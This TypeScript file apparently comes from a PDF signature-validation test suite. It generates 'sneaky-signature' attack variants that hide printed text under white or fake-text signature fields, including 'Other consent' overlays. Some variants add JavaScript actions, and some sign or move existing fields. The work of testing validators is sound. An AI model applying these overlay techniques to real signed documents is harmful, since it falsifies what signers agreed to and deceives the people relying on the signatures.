import { attacks, type Attack } from '../attack.js';
import type { SignedBase } from '../bases.js';
import { at, dictText, Edit, form } from '../edit.js';

const WHITE = '1 g 0 0 200 20 re f';
const WORDS = `${WHITE} 0 g BT /F1 12 Tf 2 5 Td (Other consent) Tj ET`;

interface Sneaky {
  readonly draw?: string;
  readonly rect?: string;
  readonly more?: string;
  readonly page?: number;
}

/** A new field that says to be for a signature and lies over printed text; nobody signs it. */
async function withField(
  base: SignedBase,
  { draw = WHITE, rect = '60 700 300 740', more = '', page: index = 0 }: Sneaky,
) {
  const edit = await Edit.open(base.bytes, base.password);
  const page = await edit.page(index);
  const look = draw === '' ? '' : `/AP << /N ${at(edit.add(form(draw)))} >>`;
  const field = edit.add(
    dictText(`/Type /Annot /Subtype /Widget /FT /Sig /T (sneaky) /F 4 /Rect [${rect}] /P ${at(page)} ${look} ${more}`),
  );
  await edit.push(page, 'Annots', field);
  await edit.push(base.parts.form, 'Fields', field);
  return edit;
}
const empty =
  (sneaky: Sneaky): Attack['make'] =>
  async (base) =>
    (await withField(base, sneaky)).build();
/** The same, and somebody signs it: the field then looks like any other signature. */
const signed =
  (sneaky: Sneaky): Attack['make'] =>
  async (base) => {
    // Elsewhere a seal may lie over a name; only a certified document forbids it outright.
    if (base.permissions !== 2 && base.permissions !== 3) return undefined;
    const bytes = await (await withField(base, sneaky)).build();
    const { forge, password } = base;
    const signer = await forge.signer('doctorEc');
    return forge.sign(bytes, { signer, field: 'sneaky', ...(password !== undefined && { password }) });
  };

export const sneakyAttacks = attacks('sneaky-signature', {
  'empty-white': empty({}),
  'empty-words': empty({ draw: WORDS }),
  'empty-other-page': empty({ page: 1 }),
  'empty-whole-page': empty({ rect: '0 0 595 842' }),
  'empty-over-field': empty({ rect: '90 450 310 490' }),
  'empty-colours': empty({ draw: '', more: '/MK << /BG [1 1 1] >>' }),
  'empty-action': empty({ more: '/A << /S /JavaScript /JS (x) >>' }),
  'empty-actions': empty({ more: '/AA << /E << /S /JavaScript /JS (x) >> >>' }),
  'empty-odd-value': empty({ more: '/V << /Type /Sig >>' }),
  'empty-text-value': empty({ more: '/V (signed)' }),
  'empty-layer': empty({ more: '/OC << /Type /OCG /Name (x) >>' }),
  'signed-white': signed({}),
  'signed-words': signed({ draw: WORDS }),
  'signed-other-page': signed({ page: 1 }),
  'signed-whole-page': signed({ rect: '0 0 595 842' }),
  'signed-over-field': signed({ rect: '90 450 310 490' }),
  'signed-action': signed({ more: '/A << /S /JavaScript /JS (x) >>' }),
  'existing-moved': async (base) => {
    const edit = await Edit.open(base.bytes, base.password);
    await edit.set(base.parts.second, { Rect: '[60 700 300 740]', AP: `<< /N ${at(edit.add(form(WHITE)))} >>` });
    return edit.build();
  },
  'existing-look': async (base) => {
    const edit = await Edit.open(base.bytes, base.password);
    await edit.set(base.parts.second, { AP: `<< /N ${at(edit.add(form(WORDS)))} >>` });
    return edit.build();
  },
  'existing-moved-and-signed': async (base) => {
    if (base.permissions === 1 || base.locked) return undefined;
    const edit = await Edit.open(base.bytes, base.password);
    await edit.set(base.parts.second, { Rect: '[60 700 300 740]', AP: `<< /N ${at(edit.add(form(WHITE)))} >>` });
    const signer = await base.forge.signer('doctorEc');
    const { password } = base;
    return base.forge.sign(await edit.build(), {
      signer,
      field: 'second',
      ...(password !== undefined && { password }),
    });
  },
});
